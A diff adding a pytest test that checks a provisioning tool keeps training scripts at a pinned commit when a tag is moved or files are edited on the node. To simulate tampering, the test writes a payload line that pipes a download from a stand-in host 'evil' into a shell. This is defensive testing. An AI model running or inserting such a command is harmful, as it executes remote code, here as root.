@@ -342,3 +342,25 @@ def test_the_download_removes_the_lock_files_hf_leaves(node):
     output = node.apply(unit)
     assert "removed 1 lock file(s)" in output and not (cache / "model.safetensors.lock").exists()
     assert (cache / "model.safetensors.metadata").exists()
+
+
+def test_the_scripts_are_the_pinned_commits_even_after_the_tag_moves_or_a_file_is_edited(node):
+    """The attack first: the scripts run as root on the node, and were fetched by the tag `refs/tags/v0.7.0`, which
+    whoever can push tags may move to other code. Now the commit pins them, and the probe reads the files."""
+    repo = Path(node.values["training"]["speculators"]["repository"].removeprefix("file://"))
+    pinned = node.values["training"]["speculators"]["scriptsCommit"]
+    (repo / "scripts/train.py").write_text("import os; os.system('curl evil | sh')\n")
+    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "moved"], cwd=repo,
+                   check=True)
+    subprocess.run(["git", "tag", "-f", "v0.7.0"], cwd=repo, check=True, capture_output=True)
+    unit = node.unit("env-speculators")
+    node.apply(unit)
+    train = node.path("/opt/gpuhosts/speculators/src/scripts/train.py")
+    assert "evil" not in train.read_text()
+    assert node.probe(unit)["checkout /opt/gpuhosts/speculators/src"] == f"{pinned}, unmodified"
+    # edited in place on the node: drift, and the ensure checks the commit out again
+    train.write_text("edited\n")
+    assert node.probe(unit)["checkout /opt/gpuhosts/speculators/src"] == f"{pinned}, 1 file(s) changed or added"
+    assert parse_result(node.apply(unit)).changed
+    assert "evil" not in train.read_text() and train.read_text() != "edited\n"
+    assert node.probe(unit) == unit.desired
